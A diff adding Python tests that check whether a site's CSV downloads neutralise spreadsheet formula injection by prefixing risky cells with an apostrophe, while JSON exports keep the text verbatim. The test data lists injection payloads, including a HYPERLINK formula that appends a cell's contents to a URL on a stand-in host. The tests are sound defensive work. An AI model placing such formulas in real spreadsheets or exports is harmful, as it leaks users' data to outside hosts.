@@ -6,11 +6,15 @@ wall-clock time."""
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 import shutil
 from pathlib import Path
 
 import pytest
 
+from alliance_site.data.exports import csv_values, datapackage, table_csv, table_json
 from alliance_site.data.numbers import format_number
 from alliance_site.load.safe_yaml import YamlProblem, load_yaml
 from alliance_site.text.markup import MarkupError, parse
@@ -309,3 +313,40 @@ def test_a_link_inside_content_is_read(tmp_path):
     (sources / "doe2019.yml").symlink_to(Path("..") / "doe2019.txt")
     result = load_corpus(tmp_path / "project" / "content")
     assert result.problems == [] and "doe2019" in result.corpus.sources
+
+
+# --- CSV downloads are safe to open in a spreadsheet; JSON and pages keep the text ---------------------------
+
+FORMULAS = ['=HYPERLINK("http://example.org/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR"]
+
+
+def _table_with(texts: list[str]) -> dict:
+    return {
+        "id": "t",
+        "caption": "C",
+        "columns": [{"id": "a", "label": "A"}],
+        "rows": [
+            {"id": f"r{i}", "label": text, "unit": text, "cells": {"a": {"value": -i, "as_written": text}}}
+            for i, text in enumerate(texts)
+        ],
+    }
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised_and_numbers_are_not():
+    text = table_csv(_table_with(FORMULAS + ["plain - text", "1 = 1"]))
+    records = list(csv.DictReader(io.StringIO(text, newline="")))
+    for record, formula in zip(records, FORMULAS, strict=False):
+        for name in ("row_label", "unit", "a_as_written"):
+            assert record[name] == "'" + formula, (name, record[name])
+    assert records[-2]["row_label"] == "plain - text" and records[-1]["a_as_written"] == "1 = 1"
+    assert [record["a"] for record in records] == [str(-i) for i in range(len(FORMULAS) + 2)]  # negative numbers kept
+    assert csv_values(text)["r2.a"] == -2
+
+
+def test_json_and_datapackage_keep_the_text_verbatim_and_say_what_the_csv_does():
+    table = _table_with(FORMULAS)
+    assert json.loads(table_json(table))["rows"][0]["label"] == FORMULAS[0]
+    package = json.loads(datapackage([table], name="p", title="P"))
+    csv_resource = next(r for r in package["resources"] if r["format"] == "csv")
+    assert "begins with an apostrophe" in csv_resource["description"]
+    assert "JSON file and the pages keep the text verbatim" in csv_resource["description"]
